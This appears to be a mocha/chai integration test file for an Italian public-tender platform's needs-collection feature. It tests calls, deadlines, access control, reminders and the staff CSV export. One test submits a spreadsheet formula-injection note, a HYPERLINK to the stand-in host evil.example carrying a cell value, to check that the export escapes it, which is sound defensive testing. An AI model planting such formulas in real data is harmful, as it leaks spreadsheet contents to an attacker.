import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { DateTime } from 'luxon';
import { loadBusinessCalendar } from '../../../src/platform/settings.js';
import { NeedsAnswer, NeedsCall, NeedsInvitation, NeedsItem, Participant } from '../../../src/modules/tenders/models.js';
import { sendNeedsReminders } from '../../../src/modules/tenders/needs.js';
import { testContext } from '../../helpers/app.js';
import { createBody, createUser } from '../../helpers/factories.js';
import { loginAs, postForm } from '../../helpers/http.js';
import { addDays, makeDossier, openCall, todayInRome } from './helpers.js';
import { mailJobsTo } from '../../helpers/mail.js';

async function invitedDossier() {
  const d = await makeDossier();
  const bodyA = await createBody({ name: `Comune di Nardò ${Date.now().toString(36)}` });
  const bodyB = await createBody({ name: `Comune di Gallipoli ${Date.now().toString(36)}` });
  const rtdA = await createUser('rtd', bodyA.id);
  const memberB = await createUser('member', bodyB.id);
  await openCall(d.id, [bodyA.id, bodyB.id]);
  const call = (await NeedsCall.findOne({ where: { dossierId: d.id } }))!;
  const items = await NeedsItem.findAll({ where: { callId: call.id }, order: [['position', 'ASC']] });
  return { d, bodyA, bodyB, rtdA, memberB, call, items };
}

describe('tenders: needs collection', () => {
  it('staff open a call through the form; invited bodies get an email with the link', async () => {
    const { inbox } = await testContext();
    const d = await makeDossier();
    const body = await createBody();
    const rtd = await createUser('rtd', body.id);
    const staff = await loginAs('staff@cithub.example');
    const empty = await postForm(staff, `/gare/${d.id}/fabbisogni/avvio`, `/gare/${d.id}/fabbisogni/avvio`, { deadlineOn: addDays(todayInRome(), -1), invite: 'chosen', itemLabel: '' });
    expect(empty.status).to.equal(422);
    expect(empty.text).to.contain('La scadenza non può essere nel passato.');
    expect(empty.text).to.contain('Indica almeno una voce da rilevare');
    expect(await NeedsCall.count({ where: { dossierId: d.id } })).to.equal(0);
    const res = await postForm(staff, `/gare/${d.id}/fabbisogni/avvio`, `/gare/${d.id}/fabbisogni/avvio`, {
      deadlineOn: addDays(todayInRome(), 15),
      instructions: 'Indicate le licenze necessarie.',
      invite: 'chosen',
      entityIds: [String(body.id)],
      itemId: ['', ''],
      itemLabel: ['Licenze di posta elettronica', ''],
      itemUnit: ['licenze', ''],
      itemMeasure: ['quantity', 'quantity'],
      itemDescription: ['', ''],
    });
    expect(res.status).to.equal(302);
    const mail = await inbox.waitFor(rtd.email, /Raccolta fabbisogni:/);
    expect(mail.subject).to.contain(d.title);
    expect(mail.text).to.contain(`/gare/${d.id}/fabbisogni`);
    expect(mail.text).to.contain('Licenze di posta elettronica (licenze)');
    expect((await Participant.findOne({ where: { dossierId: d.id, entityId: body.id } }))!.status).to.equal('invited');
    const page = await staff.get(`/gare/${d.id}`);
    expect(page.text).to.contain('Hanno risposto <strong>0</strong> enti su 1 invitati');
  });

  it('an invited body answers before the deadline and can change its answer until then', async () => {
    const { d, bodyA, rtdA, items } = await invitedDossier();
    const agent = await loginAs(rtdA.email);
    const form = await agent.get(`/gare/${d.id}/fabbisogni`);
    expect(form.status).to.equal(200);
    expect(form.text).to.contain('Postazioni di lavoro (postazioni)');
    const first = await postForm(agent, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '12', [`q_${items[1].id}`]: '15.000,50', notes: 'Sede distaccata inclusa' });
    expect(first.status).to.equal(302);
    const second = await postForm(agent, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '14', [`q_${items[1].id}`]: '16.000', notes: '' });
    expect(second.status).to.equal(302);
    const again = await agent.get(`/gare/${d.id}/fabbisogni`);
    expect(again.text).to.contain('value="14"');
    expect(again.text).to.contain('Aggiorna i fabbisogni');
    expect(await NeedsAnswer.count({ where: { entityId: bodyA.id } })).to.equal(1);
    expect((await Participant.findOne({ where: { dossierId: d.id, entityId: bodyA.id } }))!.status).to.equal('interested');
    const bad = await postForm(agent, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '-3', [`q_${items[1].id}`]: '1,001' });
    expect(bad.status).to.equal(422);
    expect(bad.text).to.contain('le quantità non possono essere negative');
    expect(bad.text).to.contain('al massimo due decimali');
    expect((await agent.get(`/gare/${d.id}/fabbisogni`)).text).to.contain('value="14"'); // nothing half-saved
  });

  it('a body not invited to the call of a public dossier finds no call (404, as if there were none)', async () => {
    const d = await makeDossier({ isPublic: 'on' });
    const invited = await createBody();
    await openCall(d.id, [invited.id]);
    const call = (await NeedsCall.findOne({ where: { dossierId: d.id } }))!;
    const items = await NeedsItem.findAll({ where: { callId: call.id }, order: [['position', 'ASC']] });
    const stranger = await loginAs((await createUser('rtd', (await createBody()).id)).email);
    expect((await stranger.get(`/gare/${d.id}`)).status).to.equal(200);
    expect((await stranger.get(`/gare/${d.id}/fabbisogni`)).status).to.equal(404);
    expect((await postForm(stranger, `/gare/${d.id}`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '1' })).status).to.equal(404);
  });

  it('refuses a needs answer after the deadline', async () => {
    const { d, rtdA, call, items } = await invitedDossier();
    await call.update({ deadlineOn: addDays(todayInRome(), -1) });
    const agent = await loginAs(rtdA.email);
    const page = await agent.get(`/gare/${d.id}/fabbisogni`);
    expect(page.text).to.contain('La raccolta è <strong>chiusa</strong>');
    expect(page.text).to.not.contain('Invia i fabbisogni');
    const res = await postForm(agent, `/gare/${d.id}`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '3' });
    expect(res.status).to.equal(422);
    expect(res.text).to.contain('La raccolta dei fabbisogni è chiusa: la scadenza era il');
    expect(await NeedsAnswer.count({ where: { callId: call.id } })).to.equal(0);
  });

  it('refuses a body answering for another body (403) and saves nothing', async () => {
    const { d, bodyB, rtdA, call, items } = await invitedDossier();
    const agent = await loginAs(rtdA.email);
    const res = await postForm(agent, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { entityId: String(bodyB.id), [`q_${items[0].id}`]: '99' });
    expect(res.status).to.equal(403);
    expect(await NeedsAnswer.count({ where: { callId: call.id } })).to.equal(0);
    // ?ente= is ignored for body users: they always see their own body's form.
    const page = await agent.get(`/gare/${d.id}/fabbisogni?ente=${bodyB.id}`);
    expect(page.text).to.not.contain(bodyB.name);
    // A body that was not invited cannot answer or read the call.
    const stranger = await createUser('rtd', (await createBody()).id);
    const other = await loginAs(stranger.email);
    // Both answer like a dossier without a call (404): nothing tells that one exists.
    expect((await other.get(`/gare/${d.id}/fabbisogni`)).status).to.equal(404);
    expect((await postForm(other, '/gare', `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '1' })).status).to.equal(404);
  });

  it('a body never sees another body’s answer; staff see the demand per item and per body, who has not answered, and the CSV', async () => {
    const { d, bodyA, bodyB, rtdA, memberB, items } = await invitedDossier();
    const a = await loginAs(rtdA.email);
    await postForm(a, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '12', [`q_${items[1].id}`]: '15.000,50', notes: 'Nota riservata di A' });
    const b = await loginAs(memberB.email);
    const bPage = await b.get(`/gare/${d.id}/fabbisogni`);
    expect(bPage.status).to.equal(200);
    expect(bPage.text).to.not.contain('Nota riservata di A');
    expect(bPage.text).to.not.contain('15.000,50');
    expect(bPage.text).to.not.contain(bodyA.name);
    expect((await b.get(`/gare/${d.id}/fabbisogni.csv`)).status).to.equal(403);
    const staff = await loginAs('staff@cithub.example');
    const summary = await staff.get(`/gare/${d.id}/fabbisogni`);
    expect(summary.text).to.contain('Risposte per ente (1 su 2)');
    expect(summary.text).to.contain('Non hanno ancora risposto (1)');
    expect(summary.text).to.contain(bodyB.name);
    expect(summary.text).to.contain('€ 15.000,50');
    // Staff record an answer on behalf of B (e.g. received by PEC); a mistake re-renders B's form.
    const wrong = await postForm(staff, `/gare/${d.id}/fabbisogni?ente=${bodyB.id}`, `/gare/${d.id}/fabbisogni/risposta`, { entityId: String(bodyB.id), [`q_${items[0].id}`]: 'tre' });
    expect(wrong.status).to.equal(422);
    expect(wrong.text).to.contain(`Risposta di ${bodyB.name}`);
    expect(wrong.text).to.contain('value="tre"');
    const onBehalf = await postForm(staff, `/gare/${d.id}/fabbisogni?ente=${bodyB.id}`, `/gare/${d.id}/fabbisogni/risposta`, { entityId: String(bodyB.id), [`q_${items[0].id}`]: '3', [`q_${items[1].id}`]: '2.500', notes: '=HYPERLINK("http://evil.example/?x="&A1;"Dettagli")' });
    expect(onBehalf.status).to.equal(302);
    const csv = await staff.get(`/gare/${d.id}/fabbisogni.csv`);
    expect(csv.status).to.equal(200);
    expect(csv.headers['content-disposition']).to.match(/^attachment; filename="fabbisogni-gara-\d+\.csv"/);
    const rows = parse(csv.text, { delimiter: ';', bom: true }) as string[][];
    expect(rows[0]).to.deep.equal(['Ente', 'Codice IPA', 'Stato', 'Data risposta', 'Postazioni di lavoro (postazioni)', 'Budget disponibile (euro)', 'Note']);
    const rowA = rows.find((r) => r[0] === bodyA.name)!;
    expect(rowA.slice(4)).to.deep.equal(['12', '15000,50', 'Nota riservata di A']);
    // A body's note that a spreadsheet would run as a formula comes out as text (OWASP CSV injection).
    const rowB = rows.find((r) => r[0] === bodyB.name)!;
    expect(rowB[6]).to.equal(`'=HYPERLINK("http://evil.example/?x="&A1;"Dettagli")`);
    const total = rows[rows.length - 1];
    expect(total[0]).to.equal('Totale');
    expect(total.slice(4, 6)).to.deep.equal(['15', '17500,50']);
  });

  it('reminds the bodies that have not answered three business days before the deadline, once', async () => {
    const { platform, inbox } = await testContext();
    const { d, rtdA, memberB, call, items } = await invitedDossier();
    const a = await loginAs(rtdA.email);
    await postForm(a, `/gare/${d.id}/fabbisogni`, `/gare/${d.id}/fabbisogni/risposta`, { [`q_${items[0].id}`]: '1' });
    const calendar = await loadBusinessCalendar(platform.sequelize);
    const deadlineMorning = DateTime.fromISO(`${call.deadlineOn}T09:00`, { zone: 'Europe/Rome' }).toJSDate();
    const remindAt = calendar.subtractBusinessDays(deadlineMorning, 3);
    // Just before the reminder is due: nothing is sent.
    await sendNeedsReminders(platform, new Date(remindAt.getTime() - 60_000));
    expect((await NeedsInvitation.findOne({ where: { callId: call.id, entityId: memberB.entityId! } }))!.reminderSentAt).to.equal(null);
    await sendNeedsReminders(platform, new Date(remindAt.getTime() + 60_000));
    const mail = await inbox.waitFor(memberB.email, /Promemoria: raccolta fabbisogni in scadenza/);
    expect(mail.text).to.contain(`/gare/${d.id}/fabbisogni`);
    await sendNeedsReminders(platform, new Date(remindAt.getTime() + 120_000));
    // The queue holds what was sent: one reminder to the body that has not answered, none to the one that has.
    const reminders = (to: string) => mailJobsTo(to).then((subjects) => subjects.filter((s) => /Promemoria/.test(s) && s.includes(d.title)));
    expect(await reminders(memberB.email)).to.have.length(1);
    expect(await reminders(rtdA.email)).to.have.length(0);
    expect(inbox.all(memberB.email).filter((m) => /Promemoria/.test(m.subject) && m.subject.includes(d.title))).to.have.length(1);
  });
});
